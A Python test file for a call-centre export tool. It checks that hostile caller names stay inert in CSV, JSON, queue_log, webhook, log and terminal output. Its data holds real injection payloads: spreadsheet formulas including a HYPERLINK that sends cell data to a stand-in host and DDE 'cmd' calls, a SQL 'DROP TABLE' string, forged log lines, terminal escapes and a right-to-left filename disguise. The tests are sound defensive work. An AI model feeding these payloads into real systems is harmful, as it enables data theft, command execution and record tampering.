"""A caller's name, chosen to do harm, comes out inert wherever it is written for others."""

import csv
import io
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from tests.database.made import conversation
from voipcc.cli.words import clean
from voipcc.database.parties import Party
from voipcc.database.records import RecordStore
from voipcc.exports.queue_log.line import Line, parsed
from voipcc.exports.schema import Span
from voipcc.exports.tables import TABLES
from voipcc.exports.webhooks.message import Caller, body, content, encoded
from voipcc.exports.writers import rows_of, write_csv, write_json_lines
from voipcc.log import open_log

NAMES = {
    "formula": '=HYPERLINK("http://x/?"&A1,"click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide": "＝1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "quotes": 'O"Neil, "the" \'best\'; DROP TABLE conversation;--',
    "lines": "first\r\n1|x|sales|NONE|ABANDON|1|1|1\r\nsecond\u2028third\x85",
    "terminal": "\x7f\x1b]0;owned\x07\x1b[2J\x9b31m",
    "right to left": "\u202egnp.exe\u2066\u200f",
    "nothing": "\0\0",
    "half a letter": "\ud800x",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_it_is_one_inert_cell_of_one_line(name: str, tmp_path: Path) -> None:
    """In CSV a spreadsheet shows it as text; in JSON lines it comes back as it was, in pure ASCII."""
    store = RecordStore.open(tmp_path / "records.sqlite")
    store.keep(conversation(party="p1"), 1)
    store.close()
    table, zone = TABLES["calls"], ZoneInfo("UTC")
    person = Party("p1", "+4917012345678", name, 0)
    file = io.StringIO(newline="")
    span = Span(0, 1 << 62, lambda party: person)
    write_csv(table, rows_of(table, store.archive, span), file, zone)
    text = file.getvalue()
    assert text.count("\n") == text.count("\r\n") == 2
    assert text.replace("\r\n", "").isprintable()
    text.encode()
    head, row = csv.reader(io.StringIO(text, newline=""), strict=True)
    shown = row[head.index("caller_name")]
    assert not shown.lstrip(" \"'").startswith(("=", "+", "-", "@", "＝")) or shown[0] == "'"
    lines = io.StringIO()
    write_json_lines(table, rows_of(table, store.archive, span), lines, zone)
    assert lines.getvalue().isascii() and lines.getvalue()[:-1].isprintable()
    assert lines.getvalue().count("\n") == 1
    assert json.loads(lines.getvalue())["caller_name"] == name


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_it_is_inert_in_files_of_lines_messages_logs_and_on_screens(
    name: str, tmp_path: Path
) -> None:
    """A queue_log line stays one line of as many fields; message, log and screen have no sign that acts."""
    line = Line(1_700_000_000, "leg", "sales", name, "PAUSE", (name,)).encoded()
    assert line.count(b"\n") == 1 and line.count(b"|") == 5
    assert line.decode().rstrip("\n").isprintable() and parsed(line.decode()).event == "PAUSE"
    kept = encoded(content(conversation(party="p1")))
    sent = body(kept, lambda party: Caller("", name))
    assert sent.isascii() and sent.decode().isprintable()
    assert json.loads(sent)["call"]["caller_name"] == name
    log = open_log(tmp_path / "log.jsonl")
    log.info("somebody called", name=name)
    written = (tmp_path / "log.jsonl").read_bytes()
    assert written.count(b"\n") == 1
    assert written.decode().rstrip("\n").isprintable()
    assert json.loads(written)["event"] == "somebody called"
    assert clean(name).replace("\n", "").replace("\t", "").isprintable()
